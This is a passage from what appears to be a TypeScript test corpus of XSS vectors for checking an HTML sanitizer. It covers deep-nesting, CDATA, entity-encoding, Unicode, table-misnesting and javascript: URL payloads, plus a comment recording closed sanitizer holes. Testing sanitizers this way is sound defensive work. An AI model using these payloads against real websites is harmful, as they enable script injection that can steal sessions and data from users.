  `<svg><rect filter="url(data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><filter id='f'></filter></svg>#f)" width=9 height=9></rect></svg>`,
  `<svg><path marker-end="url(javascript:${A})" d="M0 0"></path></svg>`,
  `<svg><g clip-path="url(javascript:${A})" cursor="url(javascript:${A}),auto"></g></svg>`,
  `<p style=";background:url(&quot;javascript:${A}&quot;)">x</p>`,
  `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${A})}">`,
]);

// ---------------------------------------------------------------------------------------------------------------
// 12. Deep nesting (Chromium flattens trees deeper than 512 levels)

const deep = (tag: string, n: number, inner: string): string => `<${tag}>`.repeat(n) + inner + `</${tag}>`.repeat(n);
add('deep', deep('div', 600, `<img src=x onerror=${A}>`));
add('deep', deep('div', 520, `<a href="javascript:${A}">x</a>`));
add('deep', deep('b', 600, `<svg><style><img src=x onerror=${A}></style></svg>`));
add('deep', deep('div', 506, `<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=${A}>"></a></style></svg></caption></table>`));
add('deep', deep('div', 510, `<svg><p><style><a id="</style><img src=x onerror=${A}>"></a></style></p></svg>`));
add('deep', deep('span', 511, `<math><mtext><table><mglyph><style><img src=x onerror=${A}></style></mglyph></table></mtext></math>`));
add('deep', `<svg>` + deep('g', 600, `<style><img src=x onerror=${A}></style>`) + `</svg>`);
add('deep', `<math>` + deep('mrow', 600, `<mtext><style><img src=x onerror=${A}></style></mtext>`) + `</math>`);
add('deep', deep('div', 508, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${A}>`));
add('deep', deep('div', 511, `<svg><title><style><a title="</style><img src=x onerror=${A}>"></a></style></title></svg>`));
add('deep', deep('div', 512, `<math><mi><style><a title="</style><img src=x onerror=${A}>"></a></style></mi></math>`));
add('deep', deep('table', 300, `<img src=x onerror=${A}>`));
add('deep', deep('i', 2000, `<script>${A}</script>`));

// ---------------------------------------------------------------------------------------------------------------
// 13. CDATA in foreign content

addAll('cdata', [
  `<svg><![CDATA[</svg><img src=x onerror=${A}>]]></svg>`,
  `<svg><![CDATA[><img src=x onerror=${A}>]]></svg>`,
  `<math><![CDATA[</math><img src=x onerror=${A}>]]></math>`,
  `<svg><text><![CDATA[<img src=x onerror=${A}>]]></text></svg>`,
  `<svg><desc><![CDATA[</desc><img src=x onerror=${A}>]]></desc></svg>`,
  `<svg><foreignObject><![CDATA[</foreignObject><img src=x onerror=${A}>]]></foreignObject></svg>`,
  `<math><mi><![CDATA[</mi><img src=x onerror=${A}>]]></mi></math>`,
  `<svg><title><![CDATA[</title><img src=x onerror=${A}>]]></title></svg>`,
  `<svg><![CDATA[ ]]><style><![CDATA[</style><img src=x onerror=${A}>]]></style></svg>`,
  `<![CDATA[<svg onload=${A}>]]>`,
], ['body', 'svg svg', 'math math']);

// ---------------------------------------------------------------------------------------------------------------
// 14. Other script-capable or navigation-capable elements

addAll('element', [
  `<iframe src="//probe.invalid/"></iframe>`,
  `<iframe src=x sandbox="allow-scripts allow-same-origin"></iframe>`,
  `<frame src="javascript:${A}">`,
  `<frameset><frame src="javascript:${A}"></frameset>`,
  `<object data=//probe.invalid/x.swf type=application/x-shockwave-flash></object>`,
  `<embed src=//probe.invalid/x.swf>`,
  `<applet code=x></applet>`,
  `<base href=//probe.invalid/>`,
  `<base target=_top>`,
  `<meta http-equiv=refresh content=0>`,
  `<link rel=import href=//probe.invalid/x>`,
  `<portal src=//probe.invalid/></portal>`,
  `<fencedframe></fencedframe>`,
  `<math><maction actiontype=statusline#x>x</maction></math>`,
  `<svg><handler type=text/javascript>${A}</handler></svg>`,
  `<svg><listener event=load handler=#x></listener></svg>`,
  `<xss:script xmlns:xss="http://www.w3.org/1999/xhtml">${A}</xss:script>`,
  `<html xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:${A}">x</a></html>`,
  `<head><script>${A}</script></head>`,
  `<html><head><base href="javascript:${A}//"></head><body><a href=x>x</a></body></html>`,
  `<form id=f></form><button form=f formaction="javascript:${A}">x</button>`,
  `<input type=submit formaction="javascript:${A}" form=f><form id=f></form>`,
  `<button command=show-modal commandfor=d>x</button><dialog id=d onclose=${A}></dialog>`,
  `<img src=x is=x onerror=${A}>`,
  `<image src=x onerror=${A}>`,
  `<isindex prompt=x onfocus=${A} autofocus>`,
  `<bgsound src="javascript:${A}">`,
  `<layer src="javascript:${A}"></layer><ilayer src=x></ilayer>`,
  `<xml><x>&lt;img src=x onerror=${A}&gt;</x></xml>`,
  `<event-source src="javascript:${A}"></event-source>`,
]);

// ---------------------------------------------------------------------------------------------------------------
// 15. Entities, encodings and attribute-parsing tricks

addAll('entity', [
  `&lt;img src=x onerror=${A}&gt;`,
  `&#60;img src=x onerror=${A}&#62;`,
  `&#x3c;svg onload=${A}&#x3e;`,
  `&LT;script&GT;${A}&LT;/script&GT;`,
  `<a href="&#x26;#x6a;avascript:${A}">x</a>`,
  `<a href="&amp;#106;avascript:${A}">x</a>`,
  `<a title="&quot;><img src=x onerror=${A}>">x</a>`,
  `<a title='&apos;><img src=x onerror=${A}>'>x</a>`,
  `<a title=&#34;&#62;&#60;img src=x onerror=${A}&#62;>x</a>`,
  `<a title="x" title2='"><img src=x onerror=${A}>'>y</a>`,
  `<a title="x\u0000y"><img src=x onerror=${A}></a>`,
  `<a\u0000 onclick=${A}>x</a>`,
  `<div\u0000x onclick=${A}>x</div>`,
  `<a title=\`x\`onclick=${A}>x</a>`,
  `<a title="'\`\u2028\u2029" onclick=${A}>x</a>`,
  `<a title=x/onclick=${A}>x</a>`,
  `<a title="a"onclick=${A}>x</a>`,
  `<a title=x =onclick=${A} ==onclick=${A}>x</a>`,
  `<a "onclick=${A}>x</a>`,
  `<a 'onclick'=${A}>x</a>`,
  `<a <onclick=${A}>x</a>`,
  `<a\x0bonclick=${A}>x</a>`,
  `<a\u00a0onclick=${A}>x</a>`,
  `<a title="\ud800" onclick=${A}>x</a>`,
  `\ufeff<img src=x onerror=${A}>`,
  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `<a title="&#x0;"><img src=x onerror=${A}></a>`,
  `<a title="&#xD800;&#x110000;&#0;">x</a><img src=x onerror=${A}>`,
  `<div title="a&NotANamedEntity;b" onclick=${A}>x</div>`,
]);

// ---------------------------------------------------------------------------------------------------------------
// 16. Table and misnesting (foster parenting, adoption agency) mutations

addAll('table', [
  `<table><img src=x onerror=${A}></table>`,
  `<table><tr><td><a title="</td></tr></table><img src=x onerror=${A}>">x</a></td></tr></table>`,
  `<table><style><a title="</style><img src=x onerror=${A}>"></style></table>`,
  `<table><svg><style><img src=x onerror=${A}></style></svg></table>`,
  `<table><math><mtext><style><img src=x onerror=${A}></style></mtext></math></table>`,
  `<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=${A}>"></a></style></svg></caption></table>`,
  `<a><table><a><img src=x onerror=${A}></a></table></a>`,
  `<b><p><a><i><svg><style><img src=x onerror=${A}></style></svg></i></a></p></b>`,
  `<p><table></p><style><img src=x onerror=${A}></style></table>`,
  `<form><table><form><input autofocus onfocus=${A}></form></table></form>`,
  `<table><td><svg><desc><td><style><img src=x onerror=${A}>`,
  `<table><tr><td><math><mtext><td><style><img src=x onerror=${A}>`,
  `<tr><td><a href="javascript:${A}">x</a></td></tr>`,
  `<td><svg><style><a title="</style><img src=x onerror=${A}>"></a></style></svg></td>`,
  `<caption><math><mi><style><img src=x onerror=${A}></style></mi></math></caption>`,
  `<col><colgroup><svg onload=${A}>`,
]);
for (const v of out.slice(-16)) v.contexts = ['body', 'table', 'tr', 'td'];

// ---------------------------------------------------------------------------------------------------------------
// 17. Unicode and line separators

addAll('unicode', [
  `<a href="javascript:\u2028${A}">x</a>`,
  `<a href="javascript:\u2029${A}">x</a>`,
  `<a href="javascript:%E2%80%A8${A}">x</a>`,
  `<a href="java\u200bscript:${A}">x</a>`,
  `<a href="\u202ejavascript:${A}">x</a>`,
  `<a href="\ufeffjavascript:${A}">x</a>`,
  `<a href="java\u00adscript:${A}">x</a>`,
  `<ſcript>${A}</ſcript>`,
  `<ſvg onload=${A}>`,
  `<a href="javaſcript:${A}">x</a>`,
  `<a href="javaſcript:${A}" onclıck=${A}>x</a>`,
  `<a href="jav\u0130script:${A}">x</a>`,
]);

// ---------------------------------------------------------------------------------------------------------------
// 18. Mutation candidates built from what the default keeps (a, title, tables, SVG a/title/desc/foreignObject, MathML
//     text integration points): the sanitized tree must reparse to itself in Chromium, and links must stay clean.

addAll('mutation', [
  `<a href=#1><a href="javascript:${A}">x</a></a>`,
  `<a href=#1><table><a href="javascript:${A}">x</a></table></a>`,
  `<a href=#1><div><a href=#2>x</a></div></a>`,
  `<table><a href="javascript:${A}">x</a><tr><td>y</td></tr></table>`,
  `<table><tr><td>x</td></tr><b>y</b></table>`,
  `<svg><title><a href="javascript:${A}">x</a></title></svg>`,
  `<svg><desc><a href="javascript:${A}">x</a><svg><a href="javascript:${A}"><text>y</text></a></svg></desc></svg>`,
  `<svg><foreignObject><a href="javascript:${A}">x</a><svg><a href=#><title><p>y</p></title></a></svg></foreignObject></svg>`,
  `<svg><p>x</p><a href="javascript:${A}">y</a></svg>`,
  `<svg><a href=#><p>x</p></a></svg>`,
  `<svg><title><table><tr><td><svg><a href="javascript:${A}"><text>x</text></a></svg></td></tr></table></title></svg>`,
  `<math><mi><a href="javascript:${A}">x</a></mi><mtext><p>y<table><td>z</td></table></p></mtext></math>`,
  `<math><mtext><svg><title><a href=#>x</a></title></svg></mtext></math>`,
  `<math><semantics><mrow><mi>x</mi></mrow><annotation-xml encoding="text/html"><a href="javascript:${A}">y</a></annotation-xml></semantics></math>`,
  `<b><b><b><b><p>x</p></b></b></b></b>`,
  `<b><p><i>x<table><td>y</td></table></i></p></b>`,
  `<p><b><i><u><s>x<p>y</p>z</s></u></i></b></p>`,
  `<a href=#><b><p>x</a>y</b></p>`,
  `<ul><li>x<ul><li>y</li></ul><li>z</ul>`,
  `<dl><dt>x<dd>y<dt>z</dl>`,
  `<h1><h2>x</h2></h1>`,
  `<ruby>x<rt>y<rp>(</rp>z</rt></ruby>`,
  `<pre>\n\nx</pre>`,
  `<table><caption>x<caption>y</caption></caption></table>`,
  `<table><colgroup><col span=2></colgroup><tbody><tr><th scope=row>x</th></tr></tbody></table>`,
  `<p>x<table>y<tr><td>z</td></tr></table>`,
  `<div><svg><foreignObject><p>x</p></foreignObject><p>y</p></svg></div>`,
  `<title>x</title><title><p>y</p></title>`,
  `<svg><title>x</title></svg><title><svg><title>y</title></svg></title>`,
  `<a href="javascript:${A}"><svg><a href="x"><text>y</text></a></svg></a>`,
  `<svg><a href="https://ok.invalid/"><a href="javascript:${A}"><text>x</text></a></a></svg>`,
  `<svg><a href="java&#x0a;script:${A}"><foreignObject><a href="java&#x0d;script:${A}">x</a></foreignObject></a></svg>`,
], ['body', 'td', 'svg svg', 'math math', 'svg foreignObject', 'math mi']);

// ---------------------------------------------------------------------------------------------------------------
// 19. More URL-parser edge cases on the two navigating elements the default keeps (HTML a, SVG a), and every
//     spelling of section 3 on SVG a (added last so that the ids above stay stable).

const JS_URLS_EXTRA = [
  `javascript\t:${A}`,
  `javascript\n:${A}`,
  `javascript\r\n:${A}`,
  `&#9;javascript&#9;:${A}`,
  `javascript&#x0A;&#x0D;&#x09;:${A}`,
  `\x7fjavascript:${A}`,
  `java\x0cscript:${A}`,
  `javascript%3A${A}`,
  `\\javascript:${A}`,
  `JAVASCRIPT:${A}`,
  `jAvAsCrIpT&#x3A;${A}`,
  `javascript::${A}`,
  `javascript:${A}//https://ok.invalid/`,
  `&#x0001;&#x001F;&#x0020;javascript:${A}`,
  `\x00javascript:${A}`,
  `&NewLine;&Tab;j&NewLine;a&Tab;v&NewLine;a&Tab;s&NewLine;c&Tab;r&NewLine;i&Tab;p&NewLine;t&Tab;&colon;${A}`,
];
for (const u of JS_URLS_EXTRA) add('url-a-extra', `<a href="${u}">x</a>`);
for (const u of [...JS_URLS, ...JS_URLS_EXTRA]) add('url-svg-all', `<svg><a href="${u}"><text y=20>x</text></a></svg>`);

// ---------------------------------------------------------------------------------------------------------------
// Known holes: none open. The script-capable URLs other than javascript: in a/svg a href, and javascript: in
// cite, found by this corpus on 2026-11-21, are closed by sanitize()'s URL hardening (src/sanitizer/url-hardening.ts).
// A hole found later is listed here, by vector id, with a note (`knownHole`); the suite still fails on it.
const KNOWN_HOLES: Record<string, string> = {};
for (const v of out) {
  const note = KNOWN_HOLES[v.id];
  if (note !== undefined) v.knownHole = note;
}

export const XSS_VECTORS: readonly XssVector[] = Object.freeze(out);
